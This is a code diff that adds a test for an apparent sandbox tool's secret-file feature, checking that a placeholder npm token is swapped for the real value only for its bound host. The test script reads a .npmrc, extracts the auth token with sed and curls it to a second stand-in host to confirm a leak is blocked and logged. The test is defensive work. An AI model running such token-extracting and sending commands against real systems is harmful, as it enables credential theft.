@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import base64
 import json
+import os
 import secrets
 from collections.abc import Callable
 from pathlib import Path
@@ -128,3 +129,48 @@ def test_ask_mode_synthetic_addresses_still_release_to_the_bound_host(
     assert [r["path"] for r in got] == ["/record/ask", "/record/asktls"]
     assert all(r["headers"]["x-token"] == value for r in got)  # type: ignore[index]
     assert not [e for e in result.log if e.kind is EntryKind.LEAK]
+
+
+def test_a_secret_file_shows_placeholders_released_only_to_its_host(
+    run_coderun: Callable[..., Result], internet: DemoInternet, home: Path, tmp_path: Path,
+) -> None:  # fmt: skip
+    """--secret-file: the sandbox reads the credentials file with a placeholder where the
+    token is; sent to the bound host the real value arrives, sent elsewhere it is refused
+    and logged as a leak; the real file is never served."""
+    value = "npm_" + secrets.token_hex(12)
+    creds = tmp_path / "creds" / ".npmrc"
+    creds.parent.mkdir()
+    creds.write_text(f"registry=http://api.example.test/\n//api.example.test/:_authToken={value}\n")
+    os.chmod(tmp_path, 0o755)
+    os.chmod(creds.parent, 0o755)
+    since = len(internet.logs())
+    curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 10"
+    script = "; ".join([
+        "cat /home/coderun/.npmrc",
+        "T=$(sed -n 's/.*_authToken=//p' /home/coderun/.npmrc)",
+        f'{curl} -H "Authorization: Bearer $T" http://api.example.test/record/npm',
+        f'{curl} -H "Authorization: Bearer $T" http://other.example.test/record/leak',
+        "true",
+    ])  # fmt: skip
+    result = run_coderun(
+        "--mode", "audit",
+        "--secret-file", f"{creds}:/home/coderun/.npmrc=api.example.test",
+        "--", "sh", "-c", script,
+    )  # fmt: skip
+    assert result.status == 0, result.stderr
+    out = result.stdout.splitlines()
+    assert out[0] == "registry=http://api.example.test/", out
+    assert out[1].startswith("//api.example.test/:_authToken=coderun-secret-"), out
+    assert value not in result.stdout
+    assert out[2:] == ["200", "403"], (out, result.stderr)
+    got = {str(r["path"]).split("/")[2]: r for r in records(internet, since)}
+    assert set(got) == {"npm"}, got
+    headers = got["npm"]["headers"]
+    assert isinstance(headers, dict) and headers["authorization"] == f"Bearer {value}"
+    leaks = [e for e in result.log if e.kind is EntryKind.LEAK]
+    assert [e.names[0] for e in leaks] == ["other.example.test"]
+    assert "npmrc__authToken" in leaks[0].reason
+    for path in home.rglob("*"):
+        if path.is_file():
+            assert value.encode() not in path.read_bytes(), path
+    assert value not in result.stderr
